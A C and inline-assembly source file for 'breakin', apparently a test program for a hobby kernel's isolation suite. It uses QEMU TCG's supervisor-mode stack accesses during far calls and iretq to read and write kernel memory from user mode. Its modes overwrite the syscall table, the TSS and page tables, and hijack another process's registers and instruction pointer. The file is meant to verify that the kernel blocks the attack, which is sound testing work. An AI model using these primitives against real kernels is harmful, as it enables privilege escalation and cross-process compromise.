// breakin:<mode>:<hex>...: reach kernel memory from user mode through the
// far-call / iretq stack accesses that QEMU 7.2's TCG makes as *supervisor*
// accesses, even at CPL 3. tests/test_isolation_attacks.py computes every
// kernel address and offset from build/kernel.elf and passes them here; with
// the kernel half mapped into user address spaces (protected by U/S only)
// each mode succeeds and prints "breakin: success: ...". The kernel must
// instead kill this program with a page fault at its first kernel access.
//
// Modes (all numbers in hex):
//   syscall_table:<&syscalls[SYS_getpid]>   write a user code address over
//       the getpid slot (and USER_CS over the next one), then call getpid
//   tss:<&tss.ist[0]>                       write tss.ist[0], read it back
//   pml4:<kernel PML4>                      write PML4 entries 510 and 511
//   iret_read:<addr>                        read and print 8 bytes at addr
//   read_reg:<victim args>                  read the r12 of `victim`
//   write_reg:<victim args>                 overwrite the saved r12 of `victim`
//   redirect:<victim args>:<target>         point the saved rip of `victim`
//       at <target> (victim_hijacked, in victim's .text.zone)
// <victim args> = <&tss.rsp[0]>:<sizeof(struct trapframe)>:<offsetof(struct
// vproc, fpu)>:<kmalloc block size of a vproc>:<kmalloc header size>:<offset
// in struct vproc of the register (r12, or rip for redirect)>.
//
// The primitives (QEMU target/i386/tcg/seg_helper.c, helper_lcall_protected
// and helper_ret_protected, use cpu_{st,ld}q_kernel for the stack):
//
// * far_write(k, insn): with rsp = k, `rex.W lcall *(%rbx)` pushes USER_CS at
//   k-8 and its return address (the address after that lcall) at k-16, then
//   continues in user mode at far_cont, which restores rsp. Which lcall we
//   jump to chooses the value: lcall_sled holds 256 three-byte lcalls, so
//   some return address in it has any low byte we want (3 and 256 are
//   coprime).
// * kread(a): an iretq frame built around a -- rip at a-24 (iret_land), cs
//   at a-16 (USER_CS), rflags at a-8 (USER_CS = 0x23: CF and the fixed bit;
//   IF is not ours to change at IOPL 0), ss at a+8 -- then rsp = a-24 and
//   iretq: it lands at iret_land with rsp = [a]. QEMU checks the popped SS
//   like a real CPU: its low 16 bits must be USER_DS (0x1b); the upper 48
//   are ignored (same for CS). We put 0x1b there with one sled write whose
//   return address ends in 0x1b and a second, one byte higher, whose return
//   address ends in 0x00. So a read clobbers a-24..a-1 and a+8..a+24 (the
//   byte at a+24 becomes 0): targets are chosen where that is harmless.
//
// Every tick while rsp holds a kernel address is plain preemption (this
// program unregisters its activation entry first): the CPU saves the user
// rsp in the frame and gives it back, nothing dereferences it.
#include <revenant.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define USER_DS_SEL   0x1b
#define XMM8_OFF      (160 + 8 * 16)          // xmm8 in an fxsave image
#define VICTIM_BEACON 0x4e4f434145424956UL    // userland/progs/victim.c keeps this in xmm8

void far_write(uint64_t k, const void *lcall_insn);
uint64_t iret_read_tail(uint64_t a);
extern const uint8_t lcall_sled[], lcall_sled_end[], redirect_lcall[], redirect_ret[];

asm(
    "    .pushsection .text\n"
    "far_write:\n"                      // (k, insn)
    "    push %rbx\n"
    "    push %rbp\n"
    "    lea far_back(%rip), %rbx\n"
    "    mov %rsp, %rbp\n"
    "    mov %rdi, %rsp\n"
    "    jmp *%rsi\n"                   // an lcall: pushes at k-8 and k-16
    "far_cont:\n"
    "    mov %rbp, %rsp\n"
    "    pop %rbp\n"
    "    pop %rbx\n"
    "    ret\n"
    "    .balign 16\n"
    "lcall_sled:\n"
    "    .rept 256\n"
    "    rex.W lcall *(%rbx)\n"         // 48 ff 1b: m16:64 far pointer
    "    .endr\n"
    "lcall_sled_end:\n"
    "iret_read_tail:\n"                 // (a): ss at a+8 and rflags at a-8 are in place
    "    push %rbx\n"
    "    push %rbp\n"
    "    lea iret_back(%rip), %rbx\n"
    "    mov %rsp, %rbp\n"
    "    lea -8(%rdi), %rsp\n"
    "    rex.W lcall *(%rbx)\n"         // cs at a-16, rip = iret_land at a-24
    "iret_land:\n"
    "    mov %rsp, %rax\n"              // [a]
    "    mov %rbp, %rsp\n"
    "    pop %rbp\n"
    "    pop %rbx\n"
    "    ret\n"
    "iret_go:\n"
    "    lea -24(%rdi), %rsp\n"
    "    iretq\n"
    // Right after crt0's _start (userland/user.ld), like victim_hijacked in
    // victim: the return address this lcall pushes is that function there.
    "    .pushsection .text.zone, \"ax\", @progbits\n"
    "    .balign 16\n"
    "redirect_lcall:\n"
    "    rex.W lcall *(%rbx)\n"
    "redirect_ret:\n"
    "    ud2\n"
    "    .popsection\n"
    "    .pushsection .rodata\n"
    "far_back:  .quad far_cont\n"
    "           .word 0x23\n"           // USER_CS
    "iret_back: .quad iret_go\n"
    "           .word 0x23\n"
    "    .popsection\n"
    "    .popsection\n");

// The sled entry whose return address ends in `low`.
static const void *sled_for(uint8_t low)
{
    for (const uint8_t *p = lcall_sled; p < lcall_sled_end; p += 3)
        if ((uint8_t)((uintptr_t)p + 3) == low)
            return p;
    return lcall_sled;      // unreachable: 256 entries cover every low byte
}

static uint64_t sled_value(const void *insn)
{
    return (uint64_t)(uintptr_t)insn + 3;
}

// [addr] = the return address of lcall_insn, [addr+8] = USER_CS (0x23).
static void kwrite(uint64_t addr, const void *lcall_insn)
{
    far_write(addr + 16, lcall_insn);
}

static uint64_t kread(uint64_t a)
{
    kwrite(a + 8, sled_for(USER_DS_SEL));       // [a+8] = 0x....1b, [a+16] = 0x23
    kwrite(a + 9, sled_for(0));                 // [a+9] = 0: ss = 0x1b
    kwrite(a - 16, lcall_sled);                 // [a-8] = 0x23: rflags
    return iret_read_tail(a);
}

static uint64_t arg(int argc, char **argv, int i)
{
    if (i >= argc) {
        printf("breakin: missing argument %d\n", i);
        sys_exit(2);
    }
    return strtoul(argv[i], 0, 16);
}

// The victim's vproc. tss.rsp[0] is the end of the running vproc's frame:
// ours. vprocs are kmalloc blocks of one size class, which takes whole
// frames, so the other blocks of our frame are vprocs (or free); the one
// whose saved xmm8 holds the beacon is the victim's. Each probe's clobbers
// stay inside xmm6..xmm9 of the image, which no program but the victim uses.
static uint64_t find_victim(int argc, char **argv)
{
    uint64_t rsp0 = kread(arg(argc, argv, 2));
    uint64_t tf_size = arg(argc, argv, 3), fpu = arg(argc, argv, 4);
    uint64_t block = arg(argc, argv, 5), header = arg(argc, argv, 6);
    uint64_t self = rsp0 - tf_size;
    uint64_t frame = (self - header) & ~0xfffUL;
    printf("breakin: tss.rsp0=0x%lx: our vproc at 0x%lx\n", rsp0, self);
    for (uint64_t b = frame; b < frame + 4096; b += block) {
        uint64_t v = b + header;
        if (v != self && kread(v + fpu + XMM8_OFF) == VICTIM_BEACON) {
            printf("breakin: victim vproc at 0x%lx\n", v);
            return v;
        }
    }
    puts("breakin: victim not found");
    sys_exit(3);
}

int main(int argc, char **argv)
{
    // Plain preemption: a tick while rsp is a kernel address must not
    // become an activation record.
    ((volatile struct act_header *)ACT_SEGMENT)->entry[ACT_PREEMPTED] = 0;
    const char *mode = argc > 1 ? argv[1] : "";
    uint64_t a = arg(argc, argv, 2);
    printf("breakin: %s 0x%lx\n", mode, a);
    // Let victim (if any) reach its loop and be switched out at least once.
    sys_sleep_until(sys_clock_ns() + 30 * 1000000UL);

    if (!strcmp(mode, "syscall_table")) {
        kwrite(a, lcall_sled);
        long r = sys_getpid();      // the kernel calls lcall_sled + 3
        printf("breakin: success: syscalls[getpid] at 0x%lx overwritten, getpid returned %ld\n", a, r);
    } else if (!strcmp(mode, "tss")) {
        kwrite(a, lcall_sled);
        printf("breakin: success: tss.ist[0] at 0x%lx reads back 0x%lx (wrote 0x%lx)\n", a, kread(a),
               sled_value(lcall_sled));
    } else if (!strcmp(mode, "write")) {
        kwrite(a, lcall_sled);
        printf("breakin: success: 0x%lx written, reads back 0x%lx (wrote 0x%lx)\n", a, kread(a),
               sled_value(lcall_sled));
    } else if (!strcmp(mode, "pml4")) {
        kwrite(a + 510 * 8, lcall_sled);
        printf("breakin: success: pml4 at 0x%lx: wrote entry 510 = 0x%lx, entry 511 = 0x23\n", a,
               sled_value(lcall_sled));
    } else if (!strcmp(mode, "iret_read")) {
        printf("breakin: success: read 0x%016lx at 0x%lx\n", kread(a), a);
    } else if (!strcmp(mode, "read_reg")) {
        uint64_t v = find_victim(argc, argv) + arg(argc, argv, 7);
        printf("breakin: success: victim r12 = 0x%016lx (at 0x%lx)\n", kread(v), v);
    } else if (!strcmp(mode, "write_reg")) {
        uint64_t v = find_victim(argc, argv) + arg(argc, argv, 7);
        kwrite(v, lcall_sled);
        printf("breakin: success: victim r12 at 0x%lx set to 0x%lx\n", v, sled_value(lcall_sled));
    } else if (!strcmp(mode, "redirect")) {
        uint64_t target = arg(argc, argv, 8);
        if (target != (uintptr_t)redirect_ret) {
            printf("breakin: redirect: target 0x%lx is not redirect_ret 0x%lx\n", target,
                   (unsigned long)(uintptr_t)redirect_ret);
            return 2;
        }
        uint64_t v = find_victim(argc, argv) + arg(argc, argv, 7);
        kwrite(v, redirect_lcall);
        printf("breakin: success: victim rip at 0x%lx set to 0x%lx\n", v, target);
    } else {
        printf("breakin: unknown mode '%s'\n", mode);
        return 2;
    }
    return 0;
}
